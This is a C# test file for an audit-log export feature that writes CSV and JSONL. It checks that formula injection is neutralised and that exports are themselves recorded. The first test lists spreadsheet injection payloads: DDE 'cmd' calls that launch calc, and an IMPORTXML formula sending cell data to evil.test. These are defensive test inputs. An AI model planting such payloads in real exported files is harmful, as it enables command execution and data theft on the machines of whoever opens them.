using System.Text;
using System.Text.Json;
using SupportAgent.Domain.Audit;
using SupportAgent.Tests.Infrastructure;
using Xunit;

namespace SupportAgent.Tests.Audit;

public sealed class AuditExportTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"http://evil.test\",\"x\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=IMPORTXML(CONCAT(\"http://evil.test/?\",A1),\"//a\")")]
    [InlineData("+1+1")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-1+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("@A1")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("\t@SUM(A1)")]
    [InlineData(" =1+1")]
    [InlineData("\u00a0=1+1")]
    [InlineData("\ufeff=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠A1")]
    [InlineData("=\"a\",=1+1")]
    public void No_cell_is_a_formula(string text)
    {
        var cell = AuditCsv.Cell(text);
        Assert.Equal($"\"'{text.Replace("\"", "\"\"", StringComparison.Ordinal)}\"", cell);
    }

    [Theory]
    [InlineData("Ada", "\"Ada\"")]
    [InlineData("a,b;c\"d\r\n=e", "\"a,b;c\"\"d\r\n=e\"")]
    [InlineData(-5L, "-5")]
    [InlineData(null, "")]
    public void Other_cells_stay_as_they_are(object? value, string cell) => Assert.Equal(cell, AuditCsv.Cell(value));

    [Fact]
    public async Task A_table_holds_every_field_of_every_record_that_fits_oldest_first()
    {
        await using var test = await TestStore.CreateAsync();
        await test.AppendAsync([.. Enumerable.Range(0, 450).Select(x => AuditTrail.Call(x % 2 == 0 ? "get_order" : "get_ticket") with { Result = "=1+1" })]);
        var text = await WriteAsync(test, new AuditQuery { Action = "get_order" }, AuditExportFormat.Csv);
        Assert.Equal('\ufeff', text[0]);
        var lines = text[1..].Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("number,at,kind,tool,status,code,", lines[0], StringComparison.Ordinal);
        Assert.Equal(Enumerable.Range(0, 225).Select(x => ((x * 2) + 1).ToString(System.Globalization.CultureInfo.InvariantCulture)), lines.Skip(1).Select(x => x.Split(',')[0]));
        Assert.All(lines.Skip(1), x => Assert.Contains(",\"'=1+1\",", x, StringComparison.Ordinal));
        // nothing of a record is left out
        Assert.Equal(AuditTrail.Columns.Count + 2, lines[0].Split(',').Length);
    }

    [Fact]
    public async Task A_line_of_JSON_is_a_record_as_the_API_gives_it()
    {
        await using var test = await TestStore.CreateAsync();
        await test.AppendAsync(AuditTrail.Call(), AuditTrail.Call() with { Arguments = "{no JSON", Result = null });
        var lines = (await WriteAsync(test, new AuditQuery(), AuditExportFormat.Jsonl)).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(x => JsonElement.Parse(x)).ToList();
        Assert.Equal([1, 2], lines.Select(x => x.GetProperty("number").GetInt32()));
        Assert.Equal("#W1234567", lines[0].GetProperty("arguments").GetProperty("order_id").GetString());
        Assert.Equal("{no JSON", lines[1].GetProperty("arguments").GetString());
        Assert.Equal("tool_call", lines[0].GetProperty("kind").GetString());
        Assert.Equal((await test.RecordsAsync())[0].Hash, lines[0].GetProperty("hash").GetString());
    }

    [Fact]
    public async Task The_export_is_a_record_before_its_first_byte_and_so_is_its_end()
    {
        await using var test = await TestStore.CreateAsync();
        await test.AppendAsync(AuditTrail.Call(), AuditTrail.Call("get_ticket"), AuditTrail.Call());
        var run = await Export(test).BeginAsync(new AuditQuery { Action = "get_order" }, AuditExportFormat.Csv, AuditTrail.Ada, "person");
        var begun = (await test.RecordsAsync())[^1];
        Assert.Equal((AuditKind.Export, "export_audit", "started", "Ada"), (begun.Kind, begun.Action, begun.Outcome, begun.PersonName));
        Assert.Equal("""{"format":"csv","records":2,"filter":{"tool":"get_order"}}""", begun.Arguments);

        await test.AppendAsync(AuditTrail.Call()); // too late to be in it
        using var output = new MemoryStream();
        await run.WriteAsync(output);
        var ended = (await test.RecordsAsync())[^1];
        Assert.Equal(("succeeded", """{"written":2}"""), (ended.Outcome, ended.Result));
        Assert.True((await test.VerifyAsync()).IsSound);
    }

    [Fact]
    public async Task An_export_that_breaks_off_says_so()
    {
        await using var test = await TestStore.CreateAsync();
        await test.AppendAsync([.. Enumerable.Range(0, 300).Select(_ => AuditTrail.Call())]);
        var run = await Export(test).BeginAsync(new AuditQuery(), AuditExportFormat.Jsonl, AuditTrail.Ada, "api");
        await Assert.ThrowsAsync<IOException>(() => run.WriteAsync(new Broken()));
        Assert.Equal("failed", (await test.RecordsAsync())[^1].Outcome);
    }

    [Fact]
    public void Whatever_is_set_in_a_search_stands_in_its_text_and_is_read_again()
    {
        var query = new AuditQuery
        {
            From = new DateTimeOffset(2026, 1, 2, 3, 4, 5, TimeSpan.Zero).AddTicks(7),
            To = new DateTimeOffset(2026, 2, 1, 0, 0, 0, TimeSpan.Zero),
            Action = "a b",
            Kind = AuditKind.ToolCall,
            Outcome = "failed",
            Code = "c",
            Person = "Ada",
            PersonId = "1",
            CustomerId = "noah",
            OrderId = "#W1",
            MinAmount = 1.5m,
            MaxAmount = -2,
            Model = "m",
            Text = "x & y",
            ConversationId = Guid.NewGuid(),
            TurnId = Guid.NewGuid(),
            DraftId = Guid.NewGuid(),
        };
        var text = AuditQueryText.Of(query);
        Assert.Equal(AuditQueryText.Names, text.Keys);
        Assert.Equal(query, AuditQueryText.Read(x => text.GetValueOrDefault(x), x => Assert.Fail(x)));
    }

    private static async Task<string> WriteAsync(TestStore test, AuditQuery query, AuditExportFormat format)
    {
        using var output = new MemoryStream();
        await (await Export(test).BeginAsync(query, format, AuditTrail.Ada, "person")).WriteAsync(output);
        return Encoding.UTF8.GetString(output.ToArray());
    }

    private static AuditExport Export(TestStore test) => new(test.Store, new AuditSearch(test.Store), new AuditLog(test.Time));

    /// <summary>A reader that goes away.</summary>
    private sealed class Broken : MemoryStream
    {
        public override void Write(ReadOnlySpan<byte> buffer) => throw new IOException();

        public override ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default) => throw new IOException();
    }
}
